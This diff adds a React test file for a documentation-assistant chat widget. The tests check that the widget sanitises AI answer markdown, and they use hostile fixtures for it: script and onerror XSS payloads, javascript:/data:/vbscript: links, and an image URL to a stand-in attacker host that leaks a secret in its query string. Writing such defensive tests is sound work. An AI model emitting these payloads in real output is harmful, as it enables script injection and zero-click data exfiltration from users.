@@ -1,0 +1,86 @@
+import { render, screen, waitFor, within } from '@testing-library/react';
+import { userEvent } from '@testing-library/user-event';
+import { describe, expect, it, vi } from 'vitest';
+import { DocsAssistant, type DocsAssistantEvent } from '../../src/index.ts';
+import { answerChunks, installFakeFetch, streamResponse } from './fakeServer.ts';
+
+const baseUrl = 'https://docs-api.example.test';
+
+async function answerWith(markdown: string, sources: { url: string; title?: string }[] = [], onEvent = vi.fn<(event: DocsAssistantEvent) => void>()) {
+  installFakeFetch(() => streamResponse(answerChunks({ text: [markdown], sources })));
+  render(<DocsAssistant domain="acme" baseUrl={baseUrl} fingerprint={false} defaultOpen onEvent={onEvent} />);
+  const user = userEvent.setup();
+  const dialog = await screen.findByRole('dialog', { name: 'Ask the docs' });
+  await user.type(within(dialog).getByRole('textbox', { name: 'Your question' }), 'Question{Enter}');
+  await waitFor(() => expect(dialog.getAttribute('data-status')).toBe('ready'));
+  const answer = dialog.querySelector('[data-role="assistant"]') as HTMLElement;
+  return { user, dialog, answer, onEvent };
+}
+
+describe('given an answer with hostile markdown', () => {
+  it('renders raw HTML as inert text, never as elements', async () => {
+    const { answer } = await answerWith('Before <script>window.hacked = true</script> <img src="x" onerror="alert(1)"> <iframe src="https://evil.example"></iframe> after');
+    expect(answer.querySelector('script, iframe, img')).toBeNull();
+    expect(answer.textContent).toContain('Before');
+    expect(answer.textContent).toContain('after');
+    expect((window as { hacked?: boolean }).hacked).toBeUndefined();
+  });
+
+  it('drops javascript:, data: and vbscript: links but keeps their text', async () => {
+    const { answer } = await answerWith('[one](javascript:alert(1)) [two](data:text/html,<b>x</b>) [three](vbscript:msgbox) [four](java\tscript:alert(1))');
+    expect(within(answer).queryAllByRole('link')).toHaveLength(0);
+    expect(answer.textContent).toContain('one');
+    expect(answer.textContent).toContain('four');
+  });
+
+  it('keeps http(s), mailto and relative links; external ones open safely in a new tab', async () => {
+    const { answer } = await answerWith('[ext](https://example.org/page) [mail](mailto:help@example.org) [docs](/docs/intro)');
+    const external = within(answer).getByRole('link', { name: 'ext' });
+    expect(external.getAttribute('target')).toBe('_blank');
+    expect(external.getAttribute('rel')).toContain('noopener');
+    expect(external.getAttribute('rel')).toContain('noreferrer');
+    expect(within(answer).getByRole('link', { name: 'mail' }).getAttribute('href')).toBe('mailto:help@example.org');
+    const relative = within(answer).getByRole('link', { name: 'docs' });
+    expect(relative.getAttribute('href')).toBe('/docs/intro');
+    expect(relative.getAttribute('target')).toBeNull();
+  });
+
+  it('never loads images from other origins (no zero-click leaks) but shows same-origin ones', async () => {
+    const { answer } = await answerWith('![leak](https://attacker.example/p.png?q=SECRET) ![proto](//attacker.example/x.png) ![logo](/img/logo.png)');
+    const images = answer.querySelectorAll('img');
+    expect(images).toHaveLength(1);
+    expect(images[0]?.getAttribute('src')).toBe('https://docs-api.example.test/img/logo.png');
+    expect(document.querySelector('img[src*="attacker"], link[href*="attacker"]')).toBeNull();
+    expect(answer.textContent).toContain('leak');
+  });
+
+  it('drops sources whose URL is not a safe link', async () => {
+    const { dialog } = await answerWith('Answer.', [
+      { url: 'javascript:alert(1)', title: 'Evil' },
+      { url: 'https://docs.example.test/guide', title: 'Guide' },
+    ]);
+    const sources = within(dialog).getByRole('navigation', { name: 'Sources' });
+    expect(within(sources).getAllByRole('link').map((link) => link.textContent)).toEqual(['Guide']);
+  });
+});
+
+describe('given an answer with tables and code', () => {
+  it('renders GFM tables', async () => {
+    const { answer } = await answerWith('| Option | Default |\n| --- | --- |\n| retrievalPageSize | 5 |');
+    const table = within(answer).getByRole('table');
+    expect(within(table).getByRole('columnheader', { name: 'Option' })).toBeTruthy();
+    expect(within(table).getByRole('cell', { name: 'retrievalPageSize' })).toBeTruthy();
+  });
+
+  it('copies a code block with its copy button, and the whole answer with Copy answer', async () => {
+    const markdown = 'Run this:\n\n```sh\nnpm install hono\n```';
+    const { user, answer, onEvent } = await answerWith(markdown);
+    await user.click(within(answer).getByRole('button', { name: 'Copy code' }));
+    expect(await navigator.clipboard.readText()).toBe('npm install hono\n');
+    expect(await within(answer).findByRole('button', { name: 'Copied' })).toBeTruthy();
+
+    await user.click(within(answer).getByRole('button', { name: 'Copy answer' }));
+    expect(await navigator.clipboard.readText()).toBe(markdown);
+    expect(onEvent).toHaveBeenCalledWith(expect.objectContaining({ type: 'copy', answer: markdown, messageId: 'msg_answer' }));
+  });
+});
